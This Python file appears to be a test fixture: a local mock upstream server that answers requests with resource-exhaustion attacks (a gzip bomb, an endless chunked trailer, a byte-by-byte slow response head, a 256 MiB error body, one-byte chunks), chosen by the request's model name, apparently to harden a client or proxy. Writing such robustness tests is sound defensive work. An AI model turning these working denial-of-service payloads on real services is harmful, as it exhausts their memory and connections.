"""Upstream whose answers attack the server that reads them. The model's name chooses the attack."""

from __future__ import annotations

import re
import socket
import sys
import threading
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from typing import BinaryIO, Final

MIB: Final = 2**20
DRIP_SECONDS: Final = 0.2
ATTACK_SECONDS: Final = 60
_MODEL: Final = re.compile(rb'"model"\s*:\s*"([a-z-]+)"')
_LENGTH: Final = re.compile(rb"content-length: *(\d+)", re.IGNORECASE)


def gzip_bomb(sock: socket.socket) -> None:
    """Send 1 GiB of JSON in 1 MiB of gzip."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    sock.sendall(head % len(BOMB) + BOMB)


def endless_trailer(sock: socket.socket) -> None:
    """Send a complete chunked answer whose trailer never ends."""
    sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    sock.sendall(b"2\r\n{}\r\n0\r\nX: ")
    for _ in range(1024):
        sock.sendall(b"a" * 65_536)


def dripping_head(sock: socket.socket) -> None:
    """Send a response head byte by byte."""
    sock.sendall(b"HTTP/1.1 200 OK\r\nX-Drip: ")
    for _ in range(int(ATTACK_SECONDS / DRIP_SECONDS)):
        sock.sendall(b"a")
        time.sleep(DRIP_SECONDS)


def large_error(sock: socket.socket) -> None:
    """Send an error of 256 MiB."""
    sock.sendall(b"HTTP/1.1 500 X\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % (256 * MIB))
    for _ in range(256):
        sock.sendall(b"x" * MIB)


def tiny_chunks(sock: socket.socket) -> None:
    """Send an answer of 512 KiB in chunks of one byte."""
    sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    for _ in range(8):
        sock.sendall(b"1\r\n{\r\n" * 65_536)


def _bomb() -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [compressor.compress(b'{"a":"')] + [compressor.compress(b"a" * MIB) for _ in range(1024)]
    return b"".join([*parts, compressor.compress(b'"}'), compressor.flush()])


ATTACKS: Final[dict[str, Callable[[socket.socket], None]]] = {
    "gzip-bomb": gzip_bomb,
    "endless-trailer": endless_trailer,
    "dripping-head": dripping_head,
    "large-error": large_error,
    "tiny-chunks": tiny_chunks,
}
BOMB: Final = _bomb() if __name__ == "__main__" else b""


def _read_body(stream: BinaryIO) -> bytes:
    length = 0
    while (line := stream.readline()).strip():
        if found := _LENGTH.match(line):
            length = int(found[1])
    return stream.read(length)


def _serve(sock: socket.socket) -> None:
    with sock, suppress(OSError):
        body = _read_body(sock.makefile("rb"))
        if found := _MODEL.search(body):
            ATTACKS[found[1].decode()](sock)


def main() -> None:
    """Serve on the port that is the first argument."""
    with socket.create_server(("127.0.0.1", int(sys.argv[1])), backlog=512) as listener:
        while True:
            threading.Thread(target=_serve, args=(listener.accept()[0],), daemon=True).start()


if __name__ == "__main__":
    main()
